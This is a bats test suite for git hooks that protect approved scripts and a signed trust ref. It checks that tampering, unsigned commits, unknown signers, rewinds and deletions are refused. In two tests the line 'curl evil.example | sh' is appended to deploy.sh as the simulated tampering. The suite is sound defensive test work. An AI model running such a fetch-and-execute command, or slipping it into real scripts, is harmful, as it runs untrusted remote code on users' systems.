#!/usr/bin/env bats
# share/hooks: pre-commit refuses a commit while an approved script differs
# from its approval; pre-push refuses to push a trust ref that does not
# verify; pre-receive on a server refuses unsigned, unknown-signer, rewound
# or deleted trust refs and takes properly signed ones.  make install-hooks
# and core.hooksPath both install them.

setup() {
	load lib/common
	HOOKS="$T_ROOT/share/hooks"
	for who in alice mallory; do
		ssh-keygen -q -t ed25519 -N '' -C "$who" -f "$who"
	done
	echo "alice@example.com $(cat alice.pub)" > signers
	git init -q repo
	cd repo
	git config user.name Alice
	git config user.email alice@example.com
	git config gpg.format ssh
	git config gpg.ssh.allowedSignersFile "$BATS_TEST_TMPDIR/signers"
	git config user.signingkey "$BATS_TEST_TMPDIR/alice"
	echo 'echo deploy' > deploy.sh
	trust-approve --yes deploy.sh > /dev/null
}

# server: a bare repository with the pre-receive hook and its own allowed signers.
server() {
	git init -q --bare ../server.git
	git -C ../server.git config gpg.ssh.allowedSignersFile "$BATS_TEST_TMPDIR/signers"
	cp "$HOOKS/pre-receive" ../server.git/hooks/
	git remote add origin ../server.git
}

@test "make install-hooks REPO=DIR installs pre-commit and pre-push, executable" {
	run -0 make -s -C "$T_ROOT" install-hooks REPO="$PWD"
	assert_line "installed $PWD/.git/hooks/pre-commit"
	assert_line "installed $PWD/.git/hooks/pre-push"
	[ -x .git/hooks/pre-commit ] && [ -x .git/hooks/pre-push ]
	cmp .git/hooks/pre-commit "$HOOKS/pre-commit"
}

@test "pre-commit (core.hooksPath): a modified approved script blocks the commit; approving unblocks it" {
	git config core.hooksPath "$HOOKS"
	git add deploy.sh
	run -0 git commit -qm 'deploy script'
	echo 'curl evil.example | sh' >> deploy.sh
	git add deploy.sh
	run -1 git commit -qm 'change it'
	assert_output --partial 'trust-verify: deploy.sh: modified since approved'
	run -0 git rev-list --count HEAD
	assert_output 1
	trust-approve --yes > /dev/null
	run -0 git commit -qm 'change it, approved'
}

@test "pre-commit: a repository whose trust ref was deleted cannot commit" {
	git config core.hooksPath "$HOOKS"
	git update-ref -d refs/ecap/trust
	git add deploy.sh
	run -1 git commit -qm x
	assert_output --partial 'no approval: refs/ecap/trust does not exist'
}

@test "pre-receive: a signed trust ref is taken; unsigned, unknown signer, rewind and delete are refused" {
	server
	git commit -q --allow-empty -m init
	run -0 git push -q origin HEAD:refs/heads/main refs/ecap/trust
	[ "$(git -C ../server.git rev-parse refs/ecap/trust)" = "$(git rev-parse refs/ecap/trust)" ]
	good=$(git rev-parse refs/ecap/trust)

	# Unsigned: the same tree, committed without a signature.
	tree=$(git rev-parse "refs/ecap/trust^{tree}")
	unsigned=$(git -c commit.gpgSign=false commit-tree -p "$good" -m unsigned "$tree")
	git update-ref refs/ecap/trust "$unsigned"
	run -1 git push -q origin refs/ecap/trust
	assert_output --partial "trust-verify: commit ${unsigned:0:12} is not signed"
	assert_output --partial 'pre-receive hook declined'
	[ "$(git -C ../server.git rev-parse refs/ecap/trust)" = "$good" ]

	# Signed by a key the server does not allow.
	mallory=$(git -c user.signingkey="$BATS_TEST_TMPDIR/mallory" commit-tree -S -p "$good" -m m "$tree")
	git update-ref refs/ecap/trust "$mallory"
	run -1 git push -q origin refs/ecap/trust
	assert_output --partial 'which is not in the allowed signers'

	# A newer approval, then a force-push back to the older one.
	git update-ref refs/ecap/trust "$good"
	echo 'echo deploy v2' > deploy.sh
	trust-approve --yes > /dev/null
	run -0 git push -q origin refs/ecap/trust
	git update-ref refs/ecap/trust "$good"
	run -1 git push -q -f origin refs/ecap/trust
	assert_output --partial 'was rewound'

	run -1 git push -q origin :refs/ecap/trust
	assert_output --partial 'pre-receive: refusing to delete refs/ecap/trust'
	run -0 git -C ../server.git rev-parse -q --verify refs/ecap/trust
}

@test "pre-push: refuses to push a trust ref that does not verify, or a work tree that differs" {
	server
	rm ../server.git/hooks/pre-receive
	cp "$HOOKS/pre-push" .git/hooks/
	git commit -q --allow-empty -m init
	run -0 git push -q origin HEAD:refs/heads/main refs/ecap/trust
	tree=$(git rev-parse "refs/ecap/trust^{tree}")
	git update-ref refs/ecap/trust "$(git -c commit.gpgSign=false commit-tree -p refs/ecap/trust -m u "$tree")"
	run -1 git push -q origin refs/ecap/trust
	assert_output --partial 'is not signed'
	run -1 git push -q origin :refs/ecap/trust
	assert_output --partial 'pre-push: refusing to delete refs/ecap/trust'
	git update-ref refs/ecap/trust "$(git rev-parse refs/ecap/trust~1)"
	echo 'curl evil.example | sh' >> deploy.sh
	git commit -q --allow-empty -m two
	run -1 git push -q origin HEAD:refs/heads/main
	assert_output --partial 'deploy.sh: modified since approved'
}
